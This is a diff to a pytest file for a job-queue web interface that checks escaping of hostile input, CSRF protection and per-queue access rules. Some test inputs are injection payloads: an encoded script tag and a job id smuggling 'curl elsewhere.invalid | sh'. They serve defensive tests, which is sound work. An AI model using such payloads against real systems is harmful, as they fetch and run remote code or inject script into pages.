@@ -17,8 +17,7 @@ from stint_api.page.drawn.jobs import Listed
 from stint_api.page.drawn.text import LONG, MOST
 from stint_api.session import cookie
 from tests.support import outputs
-from tests.support.api_bench import Bench, api
-from tests.support.servers import NatsProcess, OpenBao
+from tests.support.api_bench import Bench
 from tests.support.views import job_view
 from tests.support.waiting import until
 
@@ -87,17 +86,16 @@ class Document(HTMLParser):
 
 
 @pytest.fixture(scope="module")
-async def bench(nats: NatsProcess, openbao: OpenBao) -> AsyncIterator[Bench]:
-    async with api(nats.url, openbao) as bench:
-        for number in range(JOBS):
-            await bench.put_view(job_view(number, qname="many"))
-        for number, text in enumerate(HOSTILE):
-            written = dict.fromkeys(("container_image", "error", "submitted_by", "node_uuid"), text)
-            job = job_view(number, qname="mine", status="failed", ended=datetime.now(UTC).isoformat())
-            await bench.put_view(replace(job, job_id=f"{JOBS + number:024x}", reason="image", **written))
-        total = JOBS + len(HOSTILE)
-        await until(lambda: bench.http.get("/v1/api/job"), lambda answer: answer.json()["total"] == total)
-        yield bench
+async def bench(bench: Bench) -> Bench:
+    for number in range(JOBS):
+        await bench.put_view(job_view(number, qname="many"))
+    for number, text in enumerate(HOSTILE):
+        written = dict.fromkeys(("container_image", "error", "submitted_by", "node_uuid"), text)
+        job = job_view(number, qname="mine", status="failed", ended=datetime.now(UTC).isoformat())
+        await bench.put_view(replace(job, job_id=f"{JOBS + number:024x}", reason="image", **written))
+    total = JOBS + len(HOSTILE)
+    await until(lambda: bench.http.get("/v1/api/job"), lambda answer: answer.json()["total"] == total)
+    return bench
 
 
 @asynccontextmanager
@@ -110,6 +108,21 @@ async def signed_in(bench: Bench, token: str) -> AsyncIterator[httpx.AsyncClient
         yield http
 
 
+@pytest.fixture
+async def http(bench: Bench) -> AsyncIterator[httpx.AsyncClient]:
+    """Somebody who may do everything."""
+    async with signed_in(bench, bench.token) as http:
+        yield http
+
+
+@pytest.fixture
+async def many(bench: Bench) -> AsyncIterator[httpx.AsyncClient]:
+    """Somebody who may read one queue."""
+    rule = 'path "stint/queue/many" { capabilities = ["read"] }'
+    async with signed_in(bench, await bench.token_with(rule)) as http:
+        yield http
+
+
 async def drawn(http: httpx.AsyncClient, path: str, status: int | None = httpx.codes.OK) -> Document:
     answer = await http.get(path)
     assert status in {None, answer.status_code}, answer.text
@@ -117,11 +130,10 @@ async def drawn(http: httpx.AsyncClient, path: str, status: int | None = httpx.c
     return Document(answer.text)
 
 
-async def test_the_list_is_drawn_page_by_page_as_the_api_answers(bench: Bench) -> None:
-    async with signed_in(bench, bench.token) as http:
-        first = await drawn(http, "/jobs?queue=many&since=&status=queued")
-        second = await drawn(http, first.links["Older"])
-        assert (await drawn(http, second.links["Newest"])).ids == first.ids
+async def test_the_list_is_drawn_page_by_page_as_the_api_answers(bench: Bench, http: httpx.AsyncClient) -> None:
+    first = await drawn(http, "/jobs?queue=many&since=&status=queued")
+    second = await drawn(http, first.links["Older"])
+    assert (await drawn(http, second.links["Newest"])).ids == first.ids
     answer = await bench.http.get("/v1/api/job", params={"qname": "many", "limit": 100})
     assert first.ids + second.ids == [job["_id"] for job in answer.json()["data"]]
     assert (len(first.ids), "Older" in second.links, "Newest" in first.links) == (50, False, False)
@@ -142,29 +154,26 @@ async def test_the_list_is_drawn_page_by_page_as_the_api_answers(bench: Bench) -
         ({"since": "1h"}, 0),
     ],
 )
-async def test_filters_are_those_of_the_address(bench: Bench, filters: dict[str, str], found: int) -> None:
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, f"/jobs?{urlencode(filters)}")
+async def test_filters_are_those_of_the_address(filters: dict[str, str], found: int, http: httpx.AsyncClient) -> None:
+    seen = await drawn(http, f"/jobs?{urlencode(filters)}")
     assert len(seen.ids) == found
     assert all(("value", value) in seen.attributes for value in filters.values() if value != "1h")
 
 
-async def test_counts_are_links_that_keep_the_other_filters(bench: Bench) -> None:
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, "/jobs?queue=mine&status=held")
+async def test_counts_are_links_that_keep_the_other_filters(http: httpx.AsyncClient) -> None:
+    seen = await drawn(http, "/jobs?queue=mine&status=held")
     assert seen.links["Failed"] == "/jobs?status=failed&queue=mine"
     assert seen.links["All"] == "/jobs?queue=mine"
     assert f"Failed{len(HOSTILE)}" in seen.said
     assert "Held0" in seen.said
 
 
-async def test_what_others_wrote_is_text(bench: Bench) -> None:
+async def test_what_others_wrote_is_text(http: httpx.AsyncClient) -> None:
     """In rows, and in what repeats the address."""
-    async with signed_in(bench, bench.token) as http:
-        plain = await drawn(http, "/jobs?queue=many&status=failed")
-        seen = await drawn(http, "/jobs?queue=mine")
-        filters = [f"/jobs?{urlencode(dict.fromkeys(Listed.names, text))}" for text in HOSTILE]
-        echoed = [await drawn(http, path, status=None) for path in filters]
+    plain = await drawn(http, "/jobs?queue=many&status=failed")
+    seen = await drawn(http, "/jobs?queue=mine")
+    filters = [f"/jobs?{urlencode(dict.fromkeys(Listed.names, text))}" for text in HOSTILE]
+    echoed = [await drawn(http, path, status=None) for path in filters]
     for row, text in zip(seen.rows, reversed(HOSTILE), strict=True):
         assert (row["c-say"], row["c-b"], row["c-r"]) == (text, text, text)
         assert row["c-m"] == "/".join(text.split("/")[-2:])
@@ -185,9 +194,8 @@ async def test_what_others_wrote_is_text(bench: Bench) -> None:
     ],
     ids=["cursor", "status", "image", "queue"],
 )
-async def test_an_address_without_a_list_says_what_is_wrong(bench: Bench, wrong: str, sentence: str) -> None:
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, f"/jobs?{wrong}", status=httpx.codes.BAD_REQUEST)
+async def test_an_address_without_a_list_says_what_is_wrong(wrong: str, sentence: str, http: httpx.AsyncClient) -> None:
+    seen = await drawn(http, f"/jobs?{wrong}", status=httpx.codes.BAD_REQUEST)
     assert ("data-cause", "failure") in seen.attributes
     assert sentence in seen.said
     assert not seen.ids
@@ -222,10 +230,9 @@ async def written(bench: Bench, *pieces: bytes) -> str:
     return job_id
 
 
-async def test_a_job_is_drawn_with_its_last_lines(bench: Bench) -> None:
+async def test_a_job_is_drawn_with_its_last_lines(bench: Bench, http: httpx.AsyncClient) -> None:
     job_id = await written(bench, *WRITTEN)
-    async with signed_in(bench, bench.token) as http:
-        without, seen = await drawn(http, f"/jobs/{job_id}"), await drawn(http, f"/jobs/{job_id}?lines")
+    without, seen = await drawn(http, f"/jobs/{job_id}"), await drawn(http, f"/jobs/{job_id}?lines")
     assert without.lines == []
     assert ("http-equiv", "refresh") in without.attributes
     assert ("http-equiv", "refresh") not in seen.attributes
@@ -238,59 +245,50 @@ async def test_a_job_is_drawn_with_its_last_lines(bench: Bench) -> None:
 
 
 @pytest.mark.parametrize("size", [1, 7, 4096])
-async def test_lines_are_those_of_the_output_however_it_is_stored(bench: Bench, size: int) -> None:
+async def test_lines_are_those_of_the_output_however_it_is_stored(
+    bench: Bench, size: int, http: httpx.AsyncClient
+) -> None:
     whole = b"".join(b"%d\n" % number for number in range(size * 3 if size < 100 else 5000))
     job_id = await written(bench, *(whole[at : at + size] for at in range(0, len(whole), size)))
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, f"/jobs/{job_id}?lines")
+    seen = await drawn(http, f"/jobs/{job_id}?lines")
     wanted = [*whole.decode().split(), "wrong"]
     assert seen.lines == wanted[-MOST:]
     assert seen.numbers == [str(number) for number in range(1, len(wanted) + 1)][-MOST:]
 
 
-async def test_what_is_too_long_to_be_drawn_is_not_read(bench: Bench) -> None:
+async def test_what_is_too_long_to_be_drawn_is_not_read(bench: Bench, http: httpx.AsyncClient) -> None:
     job_id = await written(bench, *[b"y" * 500_000] * 5)
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, f"/jobs/{job_id}?lines")
-        assert seen.lines == ["wrong"]
-        job_id = await bench.submitted(qname="many")
-        writer = outputs.Writer(bench.parts.output, queue_token("many"), job_id)
-        for _ in range(5):
-            await writer.write(b"z" * 500_000)
-        assert "The last line is too long to be shown here" in (await drawn(http, f"/jobs/{job_id}?lines")).said
+    seen = await drawn(http, f"/jobs/{job_id}?lines")
+    assert seen.lines == ["wrong"]
+    job_id = await bench.submitted(qname="many")
+    writer = outputs.Writer(bench.parts.output, queue_token("many"), job_id)
+    for _ in range(5):
+        await writer.write(b"z" * 500_000)
+    assert "The last line is too long to be shown here" in (await drawn(http, f"/jobs/{job_id}?lines")).said
 
 
-async def test_a_job_that_cannot_be_shown_says_why(bench: Bench) -> None:
+async def test_a_job_that_cannot_be_shown_says_why(bench: Bench, many: httpx.AsyncClient) -> None:
     job_id = await bench.submitted(qname="hidden")
-    async with of_many(bench) as http:
-        refused = await drawn(http, f"/jobs/{job_id}?lines", status=httpx.codes.FORBIDDEN)
-        unknown = await drawn(http, f"/jobs/{0:024x}", status=httpx.codes.NOT_FOUND)
-        wrong = await drawn(http, "/jobs/%22%3E%3Cscript%3E", status=httpx.codes.BAD_REQUEST)
+    refused = await drawn(many, f"/jobs/{job_id}?lines", status=httpx.codes.FORBIDDEN)
+    unknown = await drawn(many, f"/jobs/{0:024x}", status=httpx.codes.NOT_FOUND)
+    wrong = await drawn(many, "/jobs/%22%3E%3Cscript%3E", status=httpx.codes.BAD_REQUEST)
     assert '"read" on "stint/queue/hidden"' in refused.said
     assert "token-stint-client" not in refused.said
     assert "There is no job with this id." in unknown.said
     assert wrong.tags.count("script") == 1
 
 
-@asynccontextmanager
-async def of_many(bench: Bench) -> AsyncIterator[httpx.AsyncClient]:
-    """Somebody who may read one queue."""
-    rule = 'path "stint/queue/many" { capabilities = ["read"] }'
-    async with signed_in(bench, await bench.token_with(rule)) as http:
-        yield http
-
-
-async def test_queues_are_drawn_for_who_may_read_them(bench: Bench) -> None:
+async def test_queues_are_drawn_for_who_may_read_them(
+    bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient
+) -> None:
     qname = HOSTILE[1].lower()
     job = replace(job_view(1, qname=qname), job_id="f" * 24)
     await bench.put_view(job)
     await until(lambda: bench.http.get("/v1/api/job?id=ffffff"), lambda answer: answer.json()["total"] == 1)
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, "/queues")
-        one = await drawn(http, seen.links[qname])
-    async with of_many(bench) as http:
-        mine = await drawn(http, "/queues")
-        hidden = await drawn(http, "/queues/mine", status=httpx.codes.FORBIDDEN)
+    seen = await drawn(http, "/queues")
+    one = await drawn(http, seen.links[qname])
+    mine = await drawn(many, "/queues")
+    hidden = await drawn(many, "/queues/mine", status=httpx.codes.FORBIDDEN)
     await bench.views.delete(job.job_id)
     assert {"many", "mine", qname} <= {row["c-q"] for row in seen.rows}
     assert next(row["c-w"] for row in seen.rows if row["c-q"] == qname) == "1 waiting"
@@ -302,16 +300,16 @@ async def test_queues_are_drawn_for_who_may_read_them(bench: Bench) -> None:
     assert '"read" on "stint/queue/mine"' in hidden.said
 
 
-async def test_the_audit_is_drawn_for_who_may_read_the_queue(bench: Bench) -> None:
+async def test_the_audit_is_drawn_for_who_may_read_the_queue(
+    bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient
+) -> None:
     job_id = await bench.submitted(qname="hidden")
     await until(lambda: bench.http.get("/v1/api/audit?qname=hidden"), lambda answer: job_id in answer.text)
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, "/audit?queue=hidden&since=1h&by=token-stint-client")
-        wrong = await drawn(http, f"/audit?{urlencode({'after': HOSTILE[0]})}", status=httpx.codes.BAD_REQUEST)
-        nobody = await drawn(http, f"/audit?{urlencode({'by': HOSTILE[1]})}")
-    async with of_many(bench) as http:
-        mine = await drawn(http, "/audit")
-        await drawn(http, "/audit?queue=hidden", status=httpx.codes.FORBIDDEN)
+    seen = await drawn(http, "/audit?queue=hidden&since=1h&by=token-stint-client")
+    wrong = await drawn(http, f"/audit?{urlencode({'after': HOSTILE[0]})}", status=httpx.codes.BAD_REQUEST)
+    nobody = await drawn(http, f"/audit?{urlencode({'by': HOSTILE[1]})}")
+    mine = await drawn(many, "/audit")
+    await drawn(many, "/audit?queue=hidden", status=httpx.codes.FORBIDDEN)
     assert [row["c-d"] for row in seen.rows] == ["submitted"] * len(seen.rows)
     assert seen.links[job_id[-8:]] == f"/jobs/{job_id}"
     assert "cursor: must be a number" in wrong.said
@@ -320,10 +318,9 @@ async def test_the_audit_is_drawn_for_who_may_read_the_queue(bench: Bench) -> No
     assert {row["c-q"] for row in mine.rows} <= {"many"}
 
 
-async def test_a_caller_sees_only_what_it_may_read(bench: Bench) -> None:
-    async with of_many(bench) as http:
-        every = await drawn(http, "/jobs")
-        assert (await drawn(http, "/jobs?queue=mine")).ids == []
+async def test_a_caller_sees_only_what_it_may_read(many: httpx.AsyncClient) -> None:
+    every = await drawn(many, "/jobs")
+    assert (await drawn(many, "/jobs?queue=mine")).ids == []
     assert f"of {JOBS}." in every.said
     assert f"All{JOBS}" in every.said
     assert "Failed0" in every.said
@@ -358,40 +355,37 @@ async def asked(http: httpx.AsyncClient, path: str, **fields: str) -> httpx.Resp
     return await http.post(path, data={"csrf": found[1], **fields})
 
 
-async def test_a_form_kills_and_deletes_as_its_session(bench: Bench) -> None:
+async def test_a_form_kills_and_deletes_as_its_session(bench: Bench, http: httpx.AsyncClient) -> None:
     job_id = await bench.submitted(qname="many")
-    async with signed_in(bench, bench.token) as http:
-        seen = await drawn(http, f"/jobs/{job_id}")
-        killed = await asked(http, seen.links["Kill…"])
-        assert (killed.status_code, killed.headers["location"]) == (303, f"/jobs/{job_id}")
-        assert (await bench.load(job_id)).fact(KillRequested) is not None
-        seen = await drawn(http, f"/jobs/{job_id}")
-        assert "Kill…" not in seen.links
-        deleted = await asked(http, seen.links["Delete…"])
-        assert (deleted.status_code, deleted.headers["location"]) == (303, "/jobs")
-        await drawn(http, f"/jobs/{job_id}", status=httpx.codes.NOT_FOUND)
+    seen = await drawn(http, f"/jobs/{job_id}")
+    killed = await asked(http, seen.links["Kill…"])
+    assert (killed.status_code, killed.headers["location"]) == (303, f"/jobs/{job_id}")
+    assert (await bench.load(job_id)).fact(KillRequested) is not None
+    seen = await drawn(http, f"/jobs/{job_id}")
+    assert "Kill…" not in seen.links
+    deleted = await asked(http, seen.links["Delete…"])
+    assert (deleted.status_code, deleted.headers["location"]) == (303, "/jobs")
+    await drawn(http, f"/jobs/{job_id}", status=httpx.codes.NOT_FOUND)
 
 
-async def test_a_form_changes_nothing_without_the_right_or_the_proof(bench: Bench) -> None:
+async def test_a_form_changes_nothing_without_the_right_or_the_proof(
+    bench: Bench, http: httpx.AsyncClient, many: httpx.AsyncClient
+) -> None:
     job_id = await bench.submitted(qname="many")
     kill = f"/jobs/{job_id}/kill"
-    async with of_many(bench) as http:
-        refused = await asked(http, kill)
-        assert refused.status_code == httpx.codes.FORBIDDEN
-        assert '"update" on "stint/queue/many"' in Document(refused.text).said
-    async with signed_in(bench, bench.token) as http:
-        assert (await http.post(kill)).status_code == httpx.codes.FORBIDDEN
-        assert (await http.post(kill, data={"csrf": "0" * 64})).status_code == httpx.codes.FORBIDDEN
-        for name, value in (("Origin", "http://elsewhere"), ("Sec-Fetch-Site", "same-site"), ("Cookie", "")):
-            before, http.headers[name] = http.headers[name], value
-            proof = cookie.proof(
-                before.partition("=")[2] if name == "Cookie" else http.headers["Cookie"].partition("=")[2]
-            )
-            answer = await http.post(kill, data={"csrf": proof})
-            assert answer.status_code != httpx.codes.SEE_OTHER, name
-            http.headers[name] = before
-        assert (await bench.load(job_id)).fact(KillRequested) is None
-        assert (await asked(http, kill)).status_code == httpx.codes.SEE_OTHER
+    refused = await asked(many, kill)
+    assert refused.status_code == httpx.codes.FORBIDDEN
+    assert '"update" on "stint/queue/many"' in Document(refused.text).said
+    assert (await http.post(kill)).status_code == httpx.codes.FORBIDDEN
+    assert (await http.post(kill, data={"csrf": "0" * 64})).status_code == httpx.codes.FORBIDDEN
+    for name, value in (("Origin", "http://elsewhere"), ("Sec-Fetch-Site", "same-site"), ("Cookie", "")):
+        before, http.headers[name] = http.headers[name], value
+        proof = cookie.proof(before.partition("=")[2] if name == "Cookie" else http.headers["Cookie"].partition("=")[2])
+        answer = await http.post(kill, data={"csrf": proof})
+        assert answer.status_code != httpx.codes.SEE_OTHER, name
+        http.headers[name] = before
+    assert (await bench.load(job_id)).fact(KillRequested) is None
+    assert (await asked(http, kill)).status_code == httpx.codes.SEE_OTHER
 
 
 @pytest.mark.parametrize(
@@ -399,43 +393,40 @@ async def test_a_form_changes_nothing_without_the_right_or_the_proof(bench: Benc
 )
 @pytest.mark.parametrize("what", ["pause", "resume"])
 async def test_a_question_about_no_queue_is_a_page_that_says_so(
-    bench: Bench, name: str, sentence: str, what: str
+    bench: Bench, name: str, sentence: str, what: str, http: httpx.AsyncClient
 ) -> None:
     path = f"/queues/{name}/{what}"
-    async with signed_in(bench, bench.token) as http:
-        for answer in (await http.get(path), await asked(http, path, reason="why")):
-            assert answer.status_code == httpx.codes.BAD_REQUEST
-            assert sentence in Document(answer.text).said
-    async with bench.client() as http:
-        for answer in (await http.get(path), await http.post(path)):
+    for answer in (await http.get(path), await asked(http, path, reason="why")):
+        assert answer.status_code == httpx.codes.BAD_REQUEST
+        assert sentence in Document(answer.text).said
+    async with bench.client() as stranger:
+        for answer in (await stranger.get(path), await stranger.post(path)):
             assert (answer.status_code, answer.headers["content-type"][:9]) == (401, "text/html")
 
 
 @pytest.mark.parametrize("what", ["kill", "delete", "release"])
-async def test_a_question_about_no_job_shows_no_command_to_copy(bench: Bench, what: str) -> None:
+async def test_a_question_about_no_job_shows_no_command_to_copy(what: str, http: httpx.AsyncClient) -> None:
     path = f"/jobs/{quote('x; curl elsewhere.invalid | sh')}/{what}"
-    async with signed_in(bench, bench.token) as http:
-        for answer in (await http.get(path), await asked(http, path, looked="on")):
-            assert answer.status_code == httpx.codes.BAD_REQUEST
-            assert "curl" not in Document(answer.text).said
-            assert "Invalid job ID" in Document(answer.text).said
+    for answer in (await http.get(path), await asked(http, path, looked="on")):
+        assert answer.status_code == httpx.codes.BAD_REQUEST
+        assert "curl" not in Document(answer.text).said
+        assert "Invalid job ID" in Document(answer.text).said
 
 
-async def test_a_form_pauses_with_a_reason_and_releases_after_a_look(bench: Bench) -> None:
+async def test_a_form_pauses_with_a_reason_and_releases_after_a_look(bench: Bench, http: httpx.AsyncClient) -> None:
     job_id = await bench.submitted(qname="many")
-    async with signed_in(bench, bench.token) as http:
-        assert (await asked(http, "/queues/many/pause", reason=" ")).status_code == httpx.codes.BAD_REQUEST
-        assert (await asked(http, "/queues/many/pause", reason="x" * 1001)).status_code == httpx.codes.BAD_REQUEST
-        assert "Resume" not in (await drawn(http, "/queues/many")).links
-        assert (await asked(http, "/queues/many/pause", reason=HOSTILE[0])).status_code == httpx.codes.SEE_OTHER
-        paused = await drawn(http, "/queues/many")
-        assert HOSTILE[0] in paused.said
-        assert paused.tags.count("script") == 1
-        assert (await asked(http, paused.links["Resume"])).status_code == httpx.codes.SEE_OTHER
-        unseen = await asked(http, f"/jobs/{job_id}/release")
-        assert "Look first" in unseen.text
-        refused = await asked(http, f"/jobs/{job_id}/release", looked="on")
-        assert refused.status_code == httpx.codes.BAD_REQUEST, "it is not held"
-        unknown = await asked(http, f"/runners/{quote(HOSTILE[1], safe='')}/drain")
-        assert unknown.status_code == httpx.codes.NOT_FOUND
-        assert "img" not in Document(unknown.text).tags
+    assert (await asked(http, "/queues/many/pause", reason=" ")).status_code == httpx.codes.BAD_REQUEST
+    assert (await asked(http, "/queues/many/pause", reason="x" * 1001)).status_code == httpx.codes.BAD_REQUEST
+    assert "Resume" not in (await drawn(http, "/queues/many")).links
+    assert (await asked(http, "/queues/many/pause", reason=HOSTILE[0])).status_code == httpx.codes.SEE_OTHER
+    paused = await drawn(http, "/queues/many")
+    assert HOSTILE[0] in paused.said
+    assert paused.tags.count("script") == 1
+    assert (await asked(http, paused.links["Resume"])).status_code == httpx.codes.SEE_OTHER
+    unseen = await asked(http, f"/jobs/{job_id}/release")
+    assert "Look first" in unseen.text
+    refused = await asked(http, f"/jobs/{job_id}/release", looked="on")
+    assert refused.status_code == httpx.codes.BAD_REQUEST, "it is not held"
+    unknown = await asked(http, f"/runners/{quote(HOSTILE[1], safe='')}/drain")
+    assert unknown.status_code == httpx.codes.NOT_FOUND
+    assert "img" not in Document(unknown.text).tags
